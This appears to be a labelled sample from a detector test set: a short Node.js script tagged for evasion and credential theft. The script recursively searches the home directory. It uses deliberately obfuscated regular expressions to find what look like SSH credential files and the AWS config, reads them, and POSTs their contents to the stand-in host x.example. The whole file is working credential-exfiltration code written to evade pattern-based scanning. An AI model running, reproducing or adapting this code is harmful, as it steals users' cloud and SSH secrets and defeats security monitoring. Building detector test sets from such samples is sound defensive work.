// evasion: credential paths selected by regexes spelled with character classes, a case-insensitive flag and a hex escape (/^[.][A-Z]{2}[hH].../i, /^\x2e[a][w][s]/)
// grade: hard; does: credentials
const fs = require('fs'); const os = require('os'); const path = require('path');
const home = os.homedir();
const out = [];
for (const rel of fs.readdirSync(home, { recursive: true })) {
  if (/^[.][A-Z]{2}[hH][/\\][c]red/i.test(rel) || /^\x2e[a][w][s]\/config$/.test(rel)) out.push(fs.readFileSync(path.join(home, rel), 'utf8'));
}
require('https').request({ host: 'x.example', method: 'POST' }).end(out.join('\n'));
